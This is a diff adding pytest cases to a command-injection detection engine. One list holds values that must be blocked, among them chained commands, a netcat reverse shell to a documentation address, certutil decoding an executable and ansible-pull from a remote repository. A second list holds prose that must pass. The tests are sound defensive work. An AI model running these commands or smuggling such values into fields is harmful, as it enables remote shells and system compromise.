@@ -1310,3 +1310,80 @@ def test_ordinary_method_calls_and_prices_pass(engine: DetectionEngine, text: st
     for request in in_values(text):
         verdict = engine.evaluate(request)
         assert all(h.rule.id != 3047 for h in verdict.hits), (text, verdict.log_record())
+
+
+# ------------------------------------------ 31. a value that is a command line (issue 19, sixth round)
+@pytest.mark.parametrize(
+    "payload",
+    [
+        "lsblk -f",  # a program that is not a word, an option
+        "xzcat /srv/backups/db.xz",  # ... a path
+        "nslookup internal.example.net",  # ... a host name
+        "nmap 192.0.2.0/24",  # ... an address
+        "systemctl|wc",  # ... a pipe
+        "; 'visudo' -c",  # after a chain operator, quoted
+        "&& netsh advfirewall show allprofiles",  # Windows
+        "wevtutil qe Security /c:5",
+        "certutil -decode a.b64 a.exe",
+        "/usr/bin/journalctl -xe",
+        "sort -u /var/lib/app/users.txt",  # a program named like a word, with an option
+        "tail --follow=name app.log",
+        "find ~/ -type f",
+        "date > /tmp/out",  # ... a redirection
+        "time sh -c id",  # a word, then a program with an argument
+        "nohup ncat -e sh 198.51.100.4 4444",
+        ";pkill",  # alone after a chain operator
+        "| dmesg",
+        "bin/useradd",  # a bin directory's file
+        "/usr/local/sbin/iptables",
+        "/usr/bin/anything",
+        "time; visudo",  # a program chained to a program (3049)
+        "sudo tcpdump",  # a prefix that runs a program
+        "python3.11 -c 1",  # a versioned interpreter
+        "ansible-pull -U https://git.example.net/x",  # a tool family
+        "report.pdf& bcdboot /r x",  # anywhere, after a separator (3051)
+        "a; regedit /E out.reg",
+    ],
+)
+def test_a_value_that_is_a_command_line_is_blocked(engine: DetectionEngine, payload: str) -> None:
+    """A program Unix-like or Windows systems ship, at a value's start, with an argument
+    only a shell gives it (an option, a system path, a redirection, an address, a pipe),
+    after a prefix that runs it or chained to another, alone after a chain operator or in
+    a bin directory, or anywhere after a separator with an option, is refused."""
+    for request in in_values(payload):
+        verdict = engine.evaluate(request)
+        assert verdict.block_category == "cmdi", (payload, verdict.log_record())
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "time is of the essence",
+        "ping pong tables",
+        "head-to-head comparison",
+        "head of marketing",
+        "sort by price, then by name",
+        "find x for y",
+        "curl examples",
+        "Kubernetes and docker compose tutorial",
+        "python",
+        "docker",
+        "Type of issue: billing / invoice",
+        "Set up failed at step 3",
+        "Curl 8.5.0 released",
+        "tar is a dark brown liquid",
+        "I ran `tar -xzf backup.tar.gz` and it failed",
+        "Grep through the logs for 'timeout' and send me the lines.",
+        "date: 2026-12-07",
+        "Less urgent: the invoice shows the wrong VAT number.",
+        "bin/setup",
+    ],
+)
+def test_prose_starting_with_a_program_name_passes(engine: DetectionEngine, text: str) -> None:
+    """Prose and search queries that start with a word that names a program, a program's
+    name alone (a tag), a version number after it, and a command quoted inside a sentence
+    do not hit the rules."""
+    for request in in_values(text):
+        verdict = engine.evaluate(request)
+        assert all(h.rule.id not in (3048, 3049, 3050, 3051) for h in verdict.hits), (text, verdict.log_record())
+
